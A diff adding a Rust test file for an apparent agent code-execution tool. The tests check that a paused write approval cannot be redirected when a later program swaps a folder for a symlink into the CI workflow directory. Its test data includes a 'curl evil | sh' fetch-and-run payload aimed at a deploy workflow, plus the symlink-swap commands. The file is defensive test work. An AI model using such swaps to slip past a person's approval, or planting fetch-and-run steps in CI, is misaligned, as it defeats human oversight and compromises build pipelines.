@@ -1,1 +1,143 @@
-//! (filled by the defence's work)
+//! Issue 30, break 7: an approval bound to a path, not to what it names. A
+//! write of `docs/deploy.yml` paused; a later program replaced `docs/` with
+//! a link to `ci/flows/`; the person's `--allow` then wrote
+//! `ci/flows/deploy.yml` while `codemode approve` still listed
+//! `docs/deploy.yml`. The same in one run: the program changes the link
+//! while the approver is asked. Defence (docs/SECURITY.md, "A decision
+//! binds to what the person saw"): the approval records the object the
+//! path resolved to when it was asked (the journal's `pending` record
+//! keeps it), and a call whose path resolves elsewhere when it runs is
+//! refused, in the same run and on resume.
+
+use std::path::Path;
+
+use codemode::approval::CommandApprover;
+use codemode::policy::{Rule, Rules};
+use codemode::{Engine, Policy, Program, receipt::RunStatus};
+use serde_json::Value;
+
+use crate::cli::codemode;
+
+/// The file the attack aims at: outside what the person was asked about.
+const FLOW: &str = "ci/flows/deploy.yml";
+const ORIGINAL: &str = "on: push\n";
+
+/// A workspace with `docs/` and `ci/flows/deploy.yml`.
+fn workspace() -> tempfile::TempDir {
+    let ws = crate::common::workspace();
+    std::fs::create_dir_all(ws.path().join("ci/flows")).unwrap();
+    std::fs::write(ws.path().join(FLOW), ORIGINAL).unwrap();
+    ws
+}
+
+/// The write the person is asked about; returns what it got.
+const WRITE_DEPLOY: &str = "
+try { await tools.write({path: 'docs/deploy.yml', content: 'on: anything\\nrun: curl evil | sh\\n'}); return 'written'; }
+catch (e) { return e.kind + ': ' + e.message; }";
+
+fn json_of(out: &std::process::Output) -> Value {
+    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!("stdout is JSON ({e}): {}\n{}", String::from_utf8_lossy(&out.stdout), stderr(out))
+    })
+}
+
+fn stderr(out: &std::process::Output) -> String {
+    String::from_utf8_lossy(&out.stderr).into_owned()
+}
+
+/// Pauses on the write (the pause approver), then a later program swaps
+/// `docs/` for a link to `ci/flows/`; returns the run id.
+fn paused_then_swapped(ws: &Path) -> String {
+    std::fs::write(ws.join("prog.js"), WRITE_DEPLOY).unwrap();
+    let run = codemode(&["run", "prog.js", "--approve", "pause", "--json"], "", ws);
+    assert_eq!(run.status.code(), Some(4), "{}", stderr(&run));
+    let run_id = json_of(&run)["run_id"].as_str().unwrap().to_owned();
+    std::fs::write(ws.join("later.js"), "await tools.bash({command: 'rm -rf docs && ln -s ci/flows docs'});")
+        .unwrap();
+    let later = codemode(&["run", "later.js", "--posture", "full-access", "--json"], "", ws);
+    assert_eq!(later.status.code(), Some(0), "{}", stderr(&later));
+    assert!(ws.join("docs").is_symlink());
+    run_id
+}
+
+/// What the resumed call got, checked: refused, saying where the path
+/// resolves now and what was approved; the flow file untouched.
+fn assert_refused(ws: &Path, resumed: &std::process::Output) {
+    assert_eq!(resumed.status.code(), Some(0), "{}", stderr(resumed));
+    let receipt = json_of(resumed);
+    let value = receipt["value"].as_str().unwrap();
+    assert!(
+        value.starts_with("refused:")
+            && value
+                .contains("`docs/deploy.yml` now resolves to `ci/flows/deploy.yml`, not `docs/deploy.yml`"),
+        "{value}"
+    );
+    assert_eq!(receipt["calls"][0]["decision"], "refused");
+    assert_eq!(std::fs::read_to_string(ws.join(FLOW)).unwrap(), ORIGINAL, "nothing written through the link");
+}
+
+#[test]
+fn an_allow_on_resume_does_not_follow_a_link_made_after_the_pause() {
+    let ws = workspace();
+    let run_id = paused_then_swapped(ws.path());
+    let resumed = codemode(&["resume", &run_id, "--allow", "1", "--json"], "", ws.path());
+    assert_refused(ws.path(), &resumed);
+}
+
+#[test]
+fn a_persons_codemode_approve_does_not_follow_a_link_made_after_the_pause() {
+    let ws = workspace();
+    let run_id = paused_then_swapped(ws.path());
+    let listed = codemode(&["approve", &run_id], "", ws.path());
+    let listing = String::from_utf8_lossy(&listed.stdout);
+    assert!(listing.contains("docs/deploy.yml"), "{listing}{}", stderr(&listed));
+    let approved = codemode(&["approve", &run_id, "--allow", "1"], "", ws.path());
+    assert_eq!(approved.status.code(), Some(0), "{}", stderr(&approved));
+    let resumed = codemode(&["resume", &run_id, "--json"], "", ws.path());
+    assert_refused(ws.path(), &resumed);
+}
+
+/// In one run: the `cmd:` approver answers once the program has swapped
+/// `docs/` for the link (two bash calls an allow rule lets run while the
+/// write waits for its approval).
+#[test]
+fn an_allow_in_the_same_run_does_not_follow_a_link_made_while_it_was_asked() {
+    let ws = workspace();
+    let root = std::fs::canonicalize(ws.path()).unwrap();
+    let approver = root.join("approve.sh");
+    std::fs::write(
+        &approver,
+        format!(
+            "#!/bin/sh\ni=0\nwhile [ ! -L '{}' ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done\n\
+             echo '{{\"decision\": \"allow\"}}'\n",
+            root.join("docs").display()
+        ),
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&approver, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let allow = ["bash(mv docs old-docs)", "bash(ln -s ci/flows docs)"];
+    let rules = Rules { allow: allow.iter().map(|r| Rule::parse(r).unwrap()).collect(), ..Rules::default() };
+    let engine = Engine::builder()
+        .workspace(&root)
+        .policy(Policy { rules, ..Policy::default() })
+        .approver(CommandApprover::new(approver.display().to_string(), Vec::<String>::new()))
+        .build()
+        .unwrap();
+    let source = format!(
+        "const write = (async () => {{ {WRITE_DEPLOY} }})();
+         await tools.bash({{command: 'mv docs old-docs'}});
+         await tools.bash({{command: 'ln -s ci/flows docs'}});
+         return await write;"
+    );
+    let receipt = engine.execute_blocking(Program::new(source));
+    assert_eq!(receipt.status, RunStatus::Completed, "{:?}", receipt.error);
+    let value = receipt.value.as_str().unwrap();
+    assert!(
+        value.starts_with("refused:")
+            && value
+                .contains("`docs/deploy.yml` now resolves to `ci/flows/deploy.yml`, not `docs/deploy.yml`"),
+        "{value}"
+    );
+    assert_eq!(std::fs::read_to_string(root.join(FLOW)).unwrap(), ORIGINAL);
+}
